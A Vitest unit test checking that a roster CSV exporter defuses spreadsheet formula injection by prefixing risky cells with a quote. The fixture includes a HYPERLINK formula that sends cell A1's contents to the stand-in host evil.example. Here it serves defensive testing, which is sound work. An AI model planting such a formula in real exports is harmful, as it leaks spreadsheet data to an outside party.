import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { ROSTER_CSV_COLUMNS, rosterCsv } from '../../../shared/roster/csv';
import { row } from './rows';

describe('rosterCsv', () => {
  it('defuses a formula that continues on the next line of the cell', () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click\nme")';
    const csv = rosterCsv([{ ...row({ handle: 'ana.trails', tags: ['-2+3\nx'] }), name: formula }]);
    const [, cells] = Papa.parse<string[]>(csv, { newline: '\r\n' }).data;
    expect(cells![ROSTER_CSV_COLUMNS.indexOf('name')]).toBe(`'${formula}`);
    expect(cells![ROSTER_CSV_COLUMNS.indexOf('tags')]).toBe(`'-2+3\nx`);
  });
});
